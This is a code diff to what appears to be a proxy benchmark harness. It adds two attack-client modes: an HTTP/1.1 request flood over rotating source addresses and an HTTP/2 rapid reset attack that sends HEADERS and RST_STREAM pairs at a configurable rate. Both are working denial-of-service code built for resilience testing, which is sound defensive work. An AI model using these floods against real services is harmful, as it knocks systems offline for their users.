@@ -14,6 +14,15 @@
 //   its ClientHello one byte every `intervalMs`; reopened when closed.
 // - garbage: keeps `concurrency` connections in flight, each sending `bytes` random bytes (no
 //   TLS), then waiting for the proxy to close it.
+// - reqflood: HTTP request flood. `conns` slots, each a TLS keep-alive connection sending
+//   `GET /` (marked `X-Attack: 1`) one request at a time, at most one every `intervalMs`;
+//   after `requestsPerConn` answers (or when the proxy closes it) the slot reconnects from the
+//   next source, paced the same. Counts requests, answers by status, connections refused before
+//   the handshake, and answers that took longer than `timeoutMs`.
+// - h2reset: HTTP/2 rapid reset spread over connections. `perSource` raw h2 connections per
+//   source, each sending a HEADERS (END_STREAM, marked `x-attack`) + RST_STREAM(CANCEL) pair
+//   `resetsPerSecond` times a second (in batches every `batchMs`) and acknowledging the server's
+//   SETTINGS; reopened when closed (after 10 ms, 500 ms after a refusal).
 //
 // IPC: { cmd: 'stats' } → { stats }; { cmd: 'stop' } → final { stats } and exit.
 //   node benches/attack-clients.js <mode> '<json opts>'
@@ -21,8 +30,9 @@ const net = require('node:net');
 const tls = require('node:tls');
 const crypto = require('node:crypto');
 const { answerStats } = require('./lib');
+const H = require('../__tests__/helpers/h2');
 
-const st = { attempts: 0, served: 0, refused: 0, established: 0, closedByProxy: 0, open: 0, bytesSent: 0 };
+const st = { attempts: 0, served: 0, refused: 0, established: 0, closedByProxy: 0, open: 0, bytesSent: 0, requests: 0, answered: 0, status: {}, timeouts: 0, streams: 0, goaway: 0 };
 let stopped = false;
 let cursor = 0;
 
@@ -181,7 +191,134 @@ function garbage({ host, port, sources, concurrency, bytes }) {
   for (let i = 0; i < concurrency; i++) one();
 }
 
-const MODES = { hsflood, slowloris, slowhs, garbage };
+/**
+ * Reads HTTP/1.1 responses off a byte stream: `onResponse(status)` per complete response (head +
+ * Content-Length body; a response without Content-Length ends at the close, not reported).
+ */
+function responseReader(onResponse) {
+  let buf = Buffer.alloc(0);
+  let need = -1; // body bytes still expected, -1 = reading a head
+  let status = 0;
+  return (d) => {
+    buf = buf.length ? Buffer.concat([buf, d]) : d;
+    for (;;) {
+      if (need < 0) {
+        const end = buf.indexOf('\r\n\r\n');
+        if (end < 0) return;
+        const head = buf.toString('latin1', 0, end);
+        status = Number(head.slice(9, 12));
+        const m = /\r\ncontent-length:\s*(\d+)/i.exec(head);
+        buf = buf.subarray(end + 4);
+        if (!m) return;
+        need = Number(m[1]);
+      }
+      if (buf.length < need) return;
+      buf = buf.subarray(need);
+      need = -1;
+      onResponse(status);
+    }
+  };
+}
+
+function reqflood({ host, port, servername, sources, conns, intervalMs, requestsPerConn, timeoutMs = 10000 }) {
+  const req = Buffer.from(`GET / HTTP/1.1\r\nHost: ${servername}\r\nX-Attack: 1\r\n\r\n`);
+  const slot = () => {
+    let last = 0; // when this slot last sent a request (ms)
+    const paced = (fn, minMs = 0) => setTimeout(fn, Math.max(minMs, last + intervalMs - Date.now()));
+    const open = () => {
+      if (stopped) return;
+      st.attempts++;
+      const s = tls.connect({ host, port, servername, localAddress: source(sources), ALPNProtocols: ['http/1.1'], rejectUnauthorized: false });
+      let up = false;
+      let answers = 0;
+      let timer;
+      const send = () => {
+        if (stopped || s.destroyed) return;
+        last = Date.now();
+        st.requests++;
+        st.bytesSent += req.length;
+        s.write(req);
+        timer = setTimeout(() => {
+          st.timeouts++;
+          s.destroy();
+        }, timeoutMs);
+      };
+      s.on(
+        'data',
+        responseReader((status) => {
+          clearTimeout(timer);
+          st.answered++;
+          st.status[status] = (st.status[status] || 0) + 1;
+          if (++answers >= requestsPerConn) s.end();
+          else paced(send);
+        })
+      );
+      s.on('secureConnect', () => {
+        up = true;
+        st.established++;
+        st.open++;
+        paced(send);
+      });
+      s.on('error', () => {});
+      s.once('close', () => {
+        clearTimeout(timer);
+        if (up) {
+          st.open--;
+          if (answers < requestsPerConn) st.closedByProxy++;
+        } else st.refused++;
+        paced(open, up ? 0 : 500);
+      });
+    };
+    open();
+  };
+  for (let i = 0; i < conns; i++) slot();
+}
+
+function h2reset({ host, port, servername, sources, perSource, resetsPerSecond, batchMs = 100 }) {
+  const block = Buffer.concat([H.requestBlock('/', servername), H.literalField('x-attack', '1')]);
+  const perBatch = Math.max(1, Math.round((resetsPerSecond * batchMs) / 1000));
+  const open = (src) => {
+    if (stopped) return;
+    st.attempts++;
+    const s = tls.connect({ host, port, servername, localAddress: src, ALPNProtocols: ['h2'], rejectUnauthorized: false });
+    let up = false;
+    let id = 1;
+    let iv;
+    s.on(
+      'data',
+      H.frameReader((f) => {
+        if (f.type === H.T.SETTINGS && !(f.flags & H.F.ACK)) s.write(H.settingsAck());
+        if (f.type === H.T.GOAWAY) st.goaway++;
+      })
+    );
+    s.on('secureConnect', () => {
+      up = true;
+      st.established++;
+      st.open++;
+      s.write(Buffer.concat([H.PREFACE, H.settings()]));
+      iv = setInterval(() => {
+        const out = [];
+        for (let i = 0; i < perBatch; i++, id += 2) {
+          out.push(H.frame(H.T.HEADERS, H.F.END_STREAM | H.F.END_HEADERS, id, block), H.rst(id));
+        }
+        st.streams += perBatch;
+        s.write(Buffer.concat(out));
+      }, batchMs);
+    });
+    s.on('error', () => {});
+    s.once('close', () => {
+      clearInterval(iv);
+      if (up) {
+        st.open--;
+        st.closedByProxy++;
+      } else st.refused++;
+      setTimeout(() => open(src), up ? 10 : 500);
+    });
+  };
+  for (const src of sources) for (let i = 0; i < perSource; i++) open(src);
+}
+
+const MODES = { hsflood, slowloris, slowhs, garbage, reqflood, h2reset };
 const [mode, json] = process.argv.slice(2);
 if (!MODES[mode]) {
   console.error(`unknown mode ${mode} (${Object.keys(MODES).join(' | ')})`);
